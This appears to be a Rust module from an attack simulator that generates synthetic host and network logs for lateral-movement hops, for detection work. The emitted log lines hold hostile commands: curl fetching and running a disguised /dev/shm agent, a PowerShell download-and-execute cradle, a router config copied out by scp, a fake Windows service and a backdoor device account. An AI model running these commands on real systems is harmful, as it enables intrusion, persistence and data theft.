//! What one hop leaves in the logs of both hosts and of the network between them.

use super::advance::Hop;
use super::{Attack, Doing};
use crate::defence::Peer;
use crate::movement::Via;
use crate::telemetry::{Conn, SYSTEM, Scene, Site, User};
use crate::world::{Account, HostNo, Os, outside};

/// The agent the attacker leaves on Windows hosts.
const AGENT: &str = "C:\\Windows\\Temp\\wus.exe";
/// The same on Linux hosts.
const LINUX_AGENT: &str = "/dev/shm/.kworker";

impl Attack<'_, '_> {
    /// Plays `hop`.
    pub(super) fn hop(&mut self, doing: &Doing<'_>, hop: &Hop) {
        let mut scene = self.scene(doing);
        let (from, to) = (hop.from, hop.step.to);
        if !hop.secret_known && hop.account.identity.is_some() {
            scene.guess(from, to, &hop.account, hop.step.via);
        }
        match (hop.step.via, scene.world.host(to).os) {
            (Via::Ssh, _) => scene.hop_ssh(from, to, hop),
            (Via::Smb | Via::Wmi, Os::Windows) => scene.hop_smb(from, to, hop),
            (Via::Winrm, Os::Windows) => scene.hop_winrm(from, to, hop),
            (Via::Rdp, Os::Windows) => scene.hop_rdp(from, to, hop),
            (Via::Database, Os::Linux) => scene.hop_database(from, to, hop.step.port),
            _ => scene.hop_exploit(from, to, hop.step.port),
        }
    }
}

impl Scene<'_, '_> {
    /// A password is guessed before it works.
    fn guess(&mut self, from: HostNo, to: HostNo, account: &Account, via: Via) {
        let source = self.world.host(from).address;
        for _ in 0..6 {
            match (via, self.world.host(to).os) {
                (Via::Ssh, _) => self.sshd_failed(to, &account.name, source),
                (Via::Smb | Via::Wmi | Via::Winrm, Os::Windows) => self.logon(to, account, 3, source, false),
                (Via::Rdp, Os::Windows) => self.logon(to, account, 10, source, false),
                _ => {}
            }
        }
        if via == Via::Ssh {
            let source = source.map_or("UNKNOWN".to_owned(), |it| it.to_string());
            let message = format!(
                "error: maximum authentication attempts exceeded for {} from {source} port 51026 ssh2 [preauth]",
                account.name
            );
            self.auth(to, "sshd", 3, &message);
            let failed = Conn { service: Some("ssh"), ..Conn::tcp(Peer::Host(from), Peer::Host(to), 22) };
            if let Some(seen) = self.conn(failed) {
                self.zeek_ssh(&seen, false, 6);
            }
        }
    }

    fn hop_ssh(&mut self, from: HostNo, to: HostNo, hop: &Hop) {
        let name = hop.account.name.as_str();
        let target = self.world.host(to).name.clone();
        match self.world.host(from).os {
            Os::Windows => {
                let user = self.world.person(from).windows();
                let command = format!("ssh.exe -o StrictHostKeyChecking=no {name}@{target}");
                self.process(from, &user, "C:\\Windows\\System32\\OpenSSH\\ssh.exe", &command, "cmd.exe");
            }
            Os::Linux => {
                let whom = format!("{name}@{target}");
                self.command(from, User::ROOT, &["ssh", "-o", "StrictHostKeyChecking=no", &whom]);
            }
            Os::Network => {}
        }
        let conn = Conn {
            service: Some("ssh"),
            sent: 84_000,
            received: 41_000,
            seconds: 340,
            ..Conn::tcp(Peer::Host(from), Peer::Host(to), hop.step.port)
        };
        if let Some(seen) = self.conn(conn) {
            self.zeek_ssh(&seen, true, 1);
        }
        let source = self.world.host(from).address;
        if self.world.host(to).os == Os::Network {
            self.device_login(to, name, source);
            self.device_command(to, name, "copy running-config scp://203.0.113.66/r.cfg");
            return;
        }
        self.sshd_accepted(to, name, source, true);
        for arguments in [&["whoami"][..], &["uname", "-a"], &["ss", "-tnp"]] {
            self.command(to, User::ROOT, arguments);
        }
        self.linux_agent(to, User::ROOT);
    }

    /// The attacker's agent comes, from outside or over the session at hand, and is started.
    pub(super) fn linux_agent(&mut self, host: HostNo, user: User) {
        if self.has_way_out(host) {
            let url = format!("https://{}/k", outside::COMMAND);
            self.command(host, user, &["curl", "-sk", "-o", LINUX_AGENT, &url]);
            self.calls_home(host);
        } else {
            self.command(host, user, &["scp", "-t", LINUX_AGENT]);
        }
        self.command(host, user, &["chmod", "0755", LINUX_AGENT]);
        self.execve(host, user, LINUX_AGENT, &["[kworker/u8:2]"]);
    }

    fn hop_smb(&mut self, from: HostNo, to: HostNo, hop: &Hop) {
        let (source, target) = (self.world.host(from).address, self.world.host(to).short.clone());
        if self.world.host(from).os == Os::Windows {
            let command = format!("sc.exe \\\\{target} create WinUpdSvc binPath= \"{AGENT}\" start= demand");
            self.process(from, &hop.account.windows(), "sc.exe", &command, "cmd.exe");
        }
        let conn = Conn {
            service: Some("gssapi,smb,dce_rpc"),
            sent: 214_000,
            received: 18_000,
            ..Conn::tcp(Peer::Host(from), Peer::Host(to), hop.step.port)
        };
        if let Some(seen) = self.conn(conn) {
            let share = format!("\\\\{target}\\ADMIN$");
            self.zeek_share(&seen, &share);
            self.zeek_file_written(&seen, &share, "Temp\\wus.exe", 181_248);
            self.zeek_rpc(&seen, "\\pipe\\svcctl", "svcctl", "CreateServiceW");
        }
        self.logon(to, &hop.account, 3, source, true);
        self.share_access(to, &hop.account, source, "\\\\*\\ADMIN$", "Temp\\wus.exe");
        self.service_installed(to, "WinUpdSvc", AGENT);
        self.process(to, SYSTEM, AGENT, AGENT, "services.exe");
        self.process(to, SYSTEM, "whoami.exe", "whoami /all", AGENT);
    }

    fn hop_winrm(&mut self, from: HostNo, to: HostNo, hop: &Hop) {
        let source = self.world.host(from).address;
        let conn =
            Conn { service: Some("http"), ..Conn::tcp(Peer::Host(from), Peer::Host(to), hop.step.port) };
        if let Some(seen) = self.conn(conn) {
            let host = self.world.host(to).name.clone();
            self.zeek_http(&seen, "POST", &host, "/wsman", "Microsoft WinRM Client", 200);
        }
        let user = hop.account.windows();
        self.logon(to, &hop.account, 3, source, true);
        self.process(
            to,
            &user,
            "wsmprovhost.exe",
            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            "svchost.exe",
        );
        self.process(
            to,
            &user,
            "whoami.exe",
            "\"C:\\Windows\\system32\\whoami.exe\" /all",
            "wsmprovhost.exe",
        );
        self.windows_loader(to, &user, "wsmprovhost.exe");
    }

    fn hop_rdp(&mut self, from: HostNo, to: HostNo, hop: &Hop) {
        let source = self.world.host(from).address;
        let conn = Conn {
            service: Some("ssl,rdp"),
            sent: 410_000,
            received: 3_900_000,
            seconds: 900,
            ..Conn::tcp(Peer::Host(from), Peer::Host(to), hop.step.port)
        };
        self.conn(conn);
        let user = hop.account.windows();
        self.logon(to, &hop.account, 10, source, true);
        self.process(to, &user, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"", "C:\\Windows\\explorer.exe");
        self.windows_loader(to, &user, "cmd.exe");
    }

    /// PowerShell brings the attacker's agent into memory, from outside or from where the attacker stands.
    pub(super) fn windows_loader(&mut self, host: HostNo, user: &str, parent: &str) {
        const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        let source =
            if self.has_way_out(host) { outside::COMMAND.to_string() } else { "127.0.0.1:8099".to_owned() };
        let command = format!(
            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{source}/a')\""
        );
        self.process(host, user, POWERSHELL, &command, parent);
        self.calls(host, user, POWERSHELL, outside::COMMAND);
        self.calls_home(host);
    }

    /// The implant speaks with the command server.
    pub(super) fn calls_home(&mut self, host: HostNo) {
        let (sent, received) = (self.rng.range(900, 4_000), self.rng.range(600, 9_000));
        self.web(host, Site { name: None, address: outside::COMMAND }, sent, received);
    }

    fn hop_database(&mut self, from: HostNo, to: HostNo, port: u16) {
        let conn =
            Conn { sent: 9_400, received: 88_000, ..Conn::tcp(Peer::Host(from), Peer::Host(to), port) };
        self.conn(conn);
        self.execve(to, User::DATABASE, "/usr/bin/dash", &["sh", "-c", "id; uname -a"]);
        self.linux_agent(to, User::DATABASE);
    }

    /// A service that can be exploited, or an interface without authentication.
    pub(super) fn hop_exploit(&mut self, from: HostNo, to: HostNo, port: u16) {
        let host = self.world.host(to).name.clone();
        let conn = Conn { service: Some("http"), ..Conn::tcp(Peer::Host(from), Peer::Host(to), port) };
        if let Some(seen) = self.conn(conn) {
            self.zeek_http(&seen, "POST", &host, "/status?cmd=id", "python-requests/2.32", 200);
        }
        self.exploited(to);
    }

    /// The exploited program runs commands.
    pub(super) fn exploited(&mut self, host: HostNo) {
        match self.world.host(host).os {
            Os::Windows => {
                let (user, worker) =
                    ("IIS APPPOOL\\DefaultAppPool", "C:\\Windows\\System32\\inetsrv\\w3wp.exe");
                self.process(host, user, "cmd.exe", "cmd.exe /c whoami", worker);
                self.windows_loader(host, user, worker);
            }
            Os::Linux => {
                self.execve(host, User::WEB, "/usr/bin/dash", &["sh", "-c", "id"]);
                self.command(host, User::WEB, &["id"]);
                self.linux_agent(host, User::WEB);
            }
            Os::Network => self.device_command(host, "admin", "username support privilege 15 secret *"),
        }
    }
}
